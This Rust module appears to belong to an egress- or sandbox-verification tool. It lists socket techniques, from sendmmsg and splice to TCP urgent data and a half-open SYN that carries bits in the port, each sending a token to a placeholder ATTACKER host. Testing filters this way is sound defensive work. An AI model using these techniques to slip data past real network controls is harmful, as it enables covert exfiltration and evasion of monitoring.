//! The same sockets, filled by rarer calls.

use std::net::IpAddr;
use std::os::fd::OwnedFd;

use super::call::{at, connect, inet, open, open_stream, send, send_to, set};
use super::{Aim, Failure, INET, Technique};
use crate::sys::attempt;
use crate::sys::attempt::message::{self, control};
use crate::verify::ground::{ATTACKER, PROVIDER, SECOND};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("sendmmsg", "UDP by sendmmsg", "40", INET, |a| {
        message::sendmmsg(&datagram()?, a.token.as_bytes(), &inet(ATTACKER, 443))
            .map_err(at("sendmmsg"))
    }),
    Technique::wire("udp-cork", "UDP held back with MSG_MORE", "40", INET, cork),
    Technique::wire("udp-segments", "UDP cut up by the kernel (GSO)", "40", INET, segments),
    Technique::wire("udp-source", "UDP, sender named by IP_PKTINFO", "40", INET, source),
    Technique::wire("udp-again", "UDP, unconnected, then elsewhere", "7", INET, again),
    Technique::wire("udp-empty", "UDP without payload, bits in the port", "7", INET, |_| {
        send_to(&datagram()?, &[], 0, ATTACKER, 4711)
    }),
    Technique::wire("splice", "TCP, filled by splice", "40", INET, |a| {
        message::splice(&connection(a)?, a.token.as_bytes()).map_err(at("splice"))
    }),
    Technique::wire("sendfile", "TCP, filled by sendfile", "40", INET, |a| {
        message::sendfile(&connection(a)?, a.token.as_bytes()).map_err(at("sendfile"))
    }),
    Technique::wire("tcp-urgent", "TCP, urgent data", "40", INET, |a| {
        let fd = connection(a)?;
        attempt::sendto(&fd, a.token.as_bytes(), libc::MSG_OOB, None).map_err(at("send")).map(drop)
    }),
    Technique::wire("tcp-zero-copy", "TCP with MSG_ZEROCOPY", "40", INET, |a| {
        let fd = connection(a)?;
        set(&fd, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &1_i32.to_ne_bytes())?;
        let token = a.token.as_bytes();
        attempt::sendto(&fd, token, libc::MSG_ZEROCOPY, None).map_err(at("send")).map(drop)
    }),
    Technique::wire("half-open", "TCP reset at once, bits in the port", "1", INET, half_open),
    Technique::wire("second-host", "TCP to a provider, port of no provider", "1", INET, |a| {
        super::ip::tcp(a, SECOND, 444)
    }),
];

fn datagram() -> Result<OwnedFd, Failure> {
    open(libc::AF_INET, libc::SOCK_DGRAM, 0)
}

fn connection(aim: &Aim) -> Result<OwnedFd, Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    connect(aim, &fd, ATTACKER, 443)?;
    Ok(fd)
}

fn cork(aim: &Aim) -> Result<(), Failure> {
    let fd = datagram()?;
    let (first, second) = aim.token.as_bytes().split_at(4);
    send_to(&fd, first, libc::MSG_MORE, ATTACKER, 443)?;
    send_to(&fd, second, 0, ATTACKER, 443)
}

fn segments(aim: &Aim) -> Result<(), Failure> {
    let size = control(libc::SOL_UDP, libc::UDP_SEGMENT, &100_u16.to_ne_bytes());
    let payload = aim.token.as_bytes().repeat(20);
    message::sendmsg_with(&datagram()?, &payload, Some(&inet(ATTACKER, 443)), &size)
        .map_err(at("sendmsg"))
}

fn source(aim: &Aim) -> Result<(), Failure> {
    let IpAddr::V4(from) = crate::verify::ground::INSIDE else { return Ok(()) };
    let mut info = vec![0; 4]; // struct in_pktinfo: any interface, this source, no destination
    info.extend(from.octets());
    info.extend([0; 4]);
    let info = control(libc::IPPROTO_IP, libc::IP_PKTINFO, &info);
    let address = inet(ATTACKER, 443);
    message::sendmsg_with(&datagram()?, aim.token.as_bytes(), Some(&address), &info)
        .map_err(at("sendmsg"))
}

fn again(aim: &Aim) -> Result<(), Failure> {
    let fd = datagram()?;
    attempt::connect(&fd, &inet(PROVIDER, 443)).map_err(at("connect"))?;
    let nowhere = super::call::family_bytes(libc::AF_UNSPEC).repeat(8);
    attempt::connect(&fd, &nowhere).map_err(at("disconnect"))?;
    attempt::connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))?;
    send(aim, &fd)
}

/// Closing with no linger sends a reset instead of an end; the SYN has gone by then.
fn half_open(_: &Aim) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_LINGER, &[1, 0, 0, 0, 0, 0, 0, 0])?;
    match attempt::connect(&fd, &inet(ATTACKER, 4711)) {
        Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => Ok(()),
        other => other.map_err(at("connect")),
    }
}
